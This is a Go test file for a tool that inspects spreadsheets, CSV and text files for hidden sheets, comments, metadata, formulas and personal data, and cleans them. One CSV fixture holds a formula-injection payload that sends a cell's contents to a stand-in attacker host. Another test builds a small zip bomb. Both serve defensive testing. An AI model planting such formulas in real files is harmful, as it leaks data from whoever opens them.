// SPDX-License-Identifier: AGPL-3.0-or-later

package inspect

import (
	"bytes"
	"errors"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

func TestCleanXLSXRemovesHiddenSheetsCommentsAndProperties(t *testing.T) {
	data := newXLSX(t, func(f *excelize.File) {
		addStaffSheet(t, f)
		must(t, f.SetSheetVisible("Staff", false))
		_, err := f.NewSheet("Secret")
		must(t, err)
		must(t, f.SetCellValue("Secret", "A1", "officer names"))
		must(t, f.SetSheetVisible("Secret", false, true))
		must(t, f.SetDefinedName(&excelize.DefinedName{Name: "Officers", RefersTo: "Staff!$A$1:$B$2"}))
		must(t, f.AddComment("Sheet1", excelize.Comment{Cell: "B2", Author: "Jo", Paragraph: []excelize.RichTextRun{{Text: "ask Jo"}}}))
		must(t, f.SetDocProps(&excelize.DocProperties{Creator: "Jane Smith", LastModifiedBy: "Bob Jones"}))
	})
	wantKinds(t, File("t.xlsx", data, Options{}), "hidden-sheet", "very-hidden-sheet", "comments", "document-properties", "defined-name-outside")

	cleaned, removed, err := Clean("t.xlsx", data, []string{"hidden-sheet", "very-hidden-sheet", "comments", "document-properties"})
	if err != nil {
		t.Fatal(err)
	}
	wantKinds(t, removed, "hidden-sheet", "very-hidden-sheet", "comments", "document-properties")
	wantKinds(t, File("t.xlsx", cleaned, Options{}))

	f, err := excelize.OpenReader(bytes.NewReader(cleaned))
	if err != nil {
		t.Fatalf("excelize cannot open the cleaned copy: %v", err)
	}
	defer f.Close()
	if diff := cmp.Diff([]string{"Sheet1"}, f.GetSheetList()); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
	if v, _ := f.GetCellValue("Sheet1", "B3"); v != "1312" {
		t.Errorf("visible data changed: B3 = %q", v)
	}
	if len(f.GetDefinedName()) != 0 {
		t.Errorf("a name into a deleted sheet was left: %+v", f.GetDefinedName())
	}
}

func TestCleanSaysWhatItCannotFix(t *testing.T) {
	data := newXLSX(t, func(f *excelize.File) {
		must(t, f.SetRowVisible("Sheet1", 3, false))
		must(t, f.SetDocProps(&excelize.DocProperties{Creator: "Jane Smith"}))
	})
	cleaned, removed, err := Clean("t.xlsx", data, []string{"hidden-rows", "document-properties"})
	if !errors.Is(err, ErrCannotClean) {
		t.Fatalf("err = %v, want ErrCannotClean", err)
	}
	wantKinds(t, removed, "document-properties")
	wantKinds(t, File("t.xlsx", cleaned, Options{}), "hidden-rows")
}

func TestCleanRefusesWhatItCannotRead(t *testing.T) {
	if _, _, err := Clean("x.bin", []byte{0, 1, 2, 3, 0xfe}, nil); !errors.Is(err, ErrCannotClean) {
		t.Fatalf("err = %v", err)
	}
}

func TestCSV(t *testing.T) {
	clean := "Year,Requests,Spend\n2022/23,1240,\"£1,240\"\n2023/24,-5,3%\n"
	wantKinds(t, File("figures.csv", []byte(clean), Options{}))

	trap := "Name,Note\nA resident,=HYPERLINK(\"http://evil.example/?\"&A1)\nJo,\"call 07700 900123\"\n"
	fs := File("data.csv", []byte(trap), Options{})
	wantKinds(t, fs, "formula-cell", "personal-data:phone")
	if f, _ := find(fs, "personal-data:phone"); f.Where != "row 3, column B, characters 6-17" {
		t.Errorf("where = %q", f.Where)
	}
	cleaned, removed, err := Clean("data.csv", []byte(trap), []string{"formula-cell"})
	if err != nil {
		t.Fatal(err)
	}
	wantKinds(t, removed, "formula-cell")
	wantKinds(t, File("data.csv", cleaned, Options{}), "personal-data:phone")
	if !bytes.Contains(cleaned, []byte(`"'=HYPERLINK(`)) {
		t.Errorf("cleaned CSV:\n%s", cleaned)
	}
}

func TestPlainText(t *testing.T) {
	wantKinds(t, File("letter.txt", []byte("Dear Sir,\nYour NI number AB123456C is on file.\n"), Options{}), "personal-data:ni-number")
}

func TestUnreadableAndUnknown(t *testing.T) {
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"empty", nil, "unreadable"},
		{"binary", []byte{0, 1, 2, 3, 0xfe, 0xff, 0, 0}, "unknown-format"},
		{"truncated zip", []byte("PK\x03\x04\x14\x00\x00\x00"), "unreadable"},
		{"zip of other files", makeZip(t, "notes.txt", "hello"), "unknown-format"},
		{"encrypted office file", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, utf16le("EncryptionInfo")...), "encrypted"},
		{"legacy office file", []byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0}, "unknown-format"},
		{"malformed workbook", makeZip(t, "xl/workbook.xml", "<workbook><sheets><sheet name='a'"), "unreadable"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			wantKinds(t, File("x", tt.data, Options{}), tt.want)
		})
	}
}

func TestTooLargeIsAFinding(t *testing.T) {
	wantKinds(t, File("big.txt", bytes.Repeat([]byte("a"), 2000), Options{MaxBytes: 1000}), "unreadable")
}

func TestZipBombIsStopped(t *testing.T) {
	// 4 MB of zeros compresses to a few KB; the budget is 8×MaxBytes.
	data := makeZip(t, "xl/workbook.xml", `<workbook>`+string(bytes.Repeat([]byte(" "), 4<<20))+`</workbook>`)
	fs := File("bomb.xlsx", data, Options{MaxBytes: 100 << 10})
	wantKinds(t, fs, "unreadable")
}
